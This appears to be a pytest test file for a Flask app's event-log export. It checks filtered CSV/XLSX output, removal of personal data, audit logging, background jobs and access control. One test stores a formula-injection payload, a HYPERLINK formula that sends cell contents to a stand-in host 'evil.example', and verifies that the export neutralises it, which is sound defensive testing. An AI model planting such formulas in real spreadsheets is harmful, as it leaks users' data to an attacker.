"""Exports of the log: exactly the filtered set, at once or as a long job, with nothing personal in it."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from typing import Any
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from app.accounts.models import AuditEntry
from app.core import spreadsheets
from app.core.access import Actor
from app.core.bulk import BulkInsert
from app.core.db import db, write
from app.core.ids import created_at, uuid7
from app.core.models import Job, JobState
from app.tracking import export
from app.tracking.export import EventExport, Order
from app.tracking.filters import Filters, Wish
from app.tracking.models import TrackedEvent
from tests.jobs import run_jobs
from tests.people import Browser, Person
from tests.spreadsheets import rows_of_xlsx
from tests.tracking.events import HASH, event_row, new_event, new_target

on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
HEAD = [
    "ID da requisição", "Recebido em", "Aconteceu em", "Plataforma", "ID do pixel", "Evento", "ID do evento",
    "ID do clique", "Valor", "Moeda", "Situação", "Tentativas", "Status HTTP", "Tipo de falha", "Motivo",
    "Cliente de API",
]  # fmt: skip
PERSONAL: dict[str, Any] = {
    "identity": {"em": [HASH], "client_ip_address": "203.0.113.7"},
    "fields": {"content_name": "Ana Souza"},
}


@pytest.fixture
def pixel(app: Flask, admin: Browser) -> UUID:
    return new_target(app, admin.person.account_id)


def table(answer: TestResponse) -> list[list[str]]:
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=eventos.csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_file_holds_the_filtered_rows_in_their_order(app: Flask, admin: Browser, pixel: UUID) -> None:
    own = admin.person.account_id
    for status in ("done", "dead", "dead", "pending", "dead"):
        new_event(app, own, pixel, status)
    listed = re.findall(r"events/(track_[0-9a-f]{32})", admin.get("/events?status=failed").text)
    head, *rows = table(admin.submit("/events/export", {"format": "csv", "status": "failed"}))
    assert head == HEAD
    assert [row[0] for row in rows] == listed
    assert len(listed) == 3


@on_sqlite
def test_a_row_says_what_the_list_says_and_nothing_personal(app: Flask, admin: Browser, pixel: UUID) -> None:
    event = new_event(app, admin.person.account_id, pixel, "dead", click_id="IwAR0", **PERSONAL)
    answer = admin.submit("/events/export", {"format": "csv"})
    at = f"{created_at(event).astimezone(ZoneInfo('America/Sao_Paulo')):%Y-%m-%d %H:%M:%S}"
    assert table(answer)[1] == [
        f"track_{event.hex}", at, at, "Meta", "123", "EVENT_PURCHASE", "order-1", "IwAR0", "1234,5", "BRL",
        "Falhou", "0", "", "Recusado pela plataforma", "Invalid parameter", "",
    ]  # fmt: skip
    assert not any(text in answer.text for text in (HASH, "203.0.113.7", "Ana Souza"))


@on_sqlite
def test_formulas_in_every_stored_text_are_defused_in_both_formats(app: Flask, admin: Browser, pixel: UUID) -> None:
    evil = '=HYPERLINK("http://evil.example?"&A1)'
    texts: dict[str, Any] = dict.fromkeys(("pixel_id", "event_name", "event_id", "click_id"), evil)
    new_event(app, admin.person.account_id, pixel, "dead", detail=evil, **texts)
    row = table(admin.submit("/events/export", {"format": "csv"}))[1]
    sheet = rows_of_xlsx(admin.submit("/events/export", {"format": "xlsx"}).data)[1]
    for cells in (row, sheet):
        assert cells.count(f"'{evil}") == 5
        assert not any(isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")) for cell in cells)


@on_sqlite
def test_xlsx_has_the_same_rows(app: Flask, admin: Browser, pixel: UUID) -> None:
    events = [new_event(app, admin.person.account_id, pixel) for _ in range(3)]
    head, *rows = rows_of_xlsx(admin.submit("/events/export", {"format": "xlsx"}).data)
    assert head == HEAD
    assert [row[0] for row in rows] == [f"track_{event.hex}" for event in reversed(events)]
    assert rows[0][8] == 1234.5
    assert isinstance(rows[0][1], datetime)


@on_sqlite
def test_an_export_is_noted_with_its_filters_and_rows(app: Flask, viewer: Browser) -> None:
    pixel = new_target(app, viewer.person.account_id)
    new_event(app, viewer.person.account_id, pixel, "dead")
    assert viewer.submit("/events/export", {"format": "csv", "status": "failed"}).status_code == 200
    with app.app_context():
        entry = db.session.query(AuditEntry).filter_by(action="events.exported").one()
        assert (entry.user_id, entry.changes) == (
            viewer.person.id,
            {"filters": [None, {"status": "failed"}], "rows": [None, 1], "format": [None, "csv"]},
        )


@on_sqlite
def test_what_cannot_be_meant_is_not_exported(app: Flask, admin: Browser, anonymous: Browser, pixel: UUID) -> None:
    new_event(app, admin.person.account_id, pixel)
    for form in ({}, {"format": "pdf"}, {"format": "csv", "status": "x"}, {"format": "csv", "from": "x"}):
        assert admin.submit("/events/export", form).location == "/events"
    assert anonymous.submit("/events/export", {"format": "csv"}).location.startswith("/login")
    assert admin.post("/events/export", data={"format": "csv"}).status_code == 400  # without the CSRF token
    assert admin.get("/events/export").status_code == 404


@on_sqlite
def test_another_accounts_events_are_not_exported(app: Flask, admin: Browser, other_account: Person) -> None:
    new_event(app, other_account.account_id, new_target(app, other_account.account_id))
    assert table(admin.submit("/events/export", {"format": "csv"})) == [HEAD]


def ask(app: Flask, person: Person, suffix: str, **filters: Any) -> str:
    """Hands an export to the workers, however small it is; the job's page."""
    order = Order(person.account_id, Filters(**filters), suffix, "America/Sao_Paulo", "pt_BR")
    with app.app_context(), write() as session:
        return f"/jobs/{export.start(session, Actor(person.account_id, person.id, person.email), order, None)}"


@on_sqlite
def test_more_than_an_answer_takes_is_handed_to_a_worker(app: Flask, admin: Browser, pixel: UUID) -> None:
    own = admin.person.account_id
    rows = [event_row(own, uuid7(), pixel) for _ in range(export.AT_ONCE + 1)]
    with app.app_context(), write() as session:
        BulkInsert(TrackedEvent, list(rows[0]))(session.connection(), rows)
    assert admin.submit("/events/export", {"format": "csv"}).location.startswith("/jobs/")
    last = f"track_{rows[-1]['id'].hex}"
    assert len(table(admin.submit("/events/export", {"format": "csv", "q": last}))) == 2


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_job_makes_the_same_file(app: Flask, admin: Browser, pixel: UUID, suffix: str) -> None:
    events = [new_event(app, admin.person.account_id, pixel, "dead") for _ in range(7)]
    new_event(app, admin.person.account_id, pixel)
    asked = ask(app, admin.person, suffix, status=Wish.FAILED)
    run_jobs(app)
    answer = admin.get(f"{asked}/file")
    head, *rows = table(answer) if suffix == "csv" else rows_of_xlsx(answer.data)
    assert head == HEAD
    assert [row[0] for row in rows] == [f"track_{event.hex}" for event in reversed(events)]
    with app.app_context():
        job = db.session.query(Job).one()
        assert (job.done, job.state) == (7, JobState.DONE)
        entry = db.session.query(AuditEntry).filter_by(action="events.exported").one()
        assert entry.changes is not None
        assert (entry.user_id, entry.changes["rows"]) == (admin.person.id, [None, 7])
    assert "7 eventos." in admin.get(asked).text


@on_sqlite
def test_a_worker_that_takes_over_begins_the_file_anew(app: Flask, admin: Browser, pixel: UUID) -> None:
    for _ in range(3):
        new_event(app, admin.person.account_id, pixel)
    asked = ask(app, admin.person, "csv")
    with app.app_context(), write() as session:
        session.query(Job).update({"done": 2, "cursor": {"rows": 2}})  # where a dead one got
    run_jobs(app)
    assert len(table(admin.get(f"{asked}/file"))) == 4
    with app.app_context():
        assert db.session.query(Job).one().done == 3


@on_sqlite
def test_a_sheet_that_is_full_says_so(app: Flask, admin: Browser, pixel: UUID, monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(4):
        new_event(app, admin.person.account_id, pixel)
    monkeypatch.setattr(spreadsheets.Xlsx, "max_rows", 2)  # a million would take minutes
    asked = ask(app, admin.person, "xlsx")
    run_jobs(app)
    assert len(rows_of_xlsx(admin.get(f"{asked}/file").data)) == 3
    assert "exporte em CSV" in admin.get(asked).text


def test_a_job_of_exports_says_who_may_see_it() -> None:
    assert (EventExport.permission, EventExport.back) == ("events.view", "events.index")
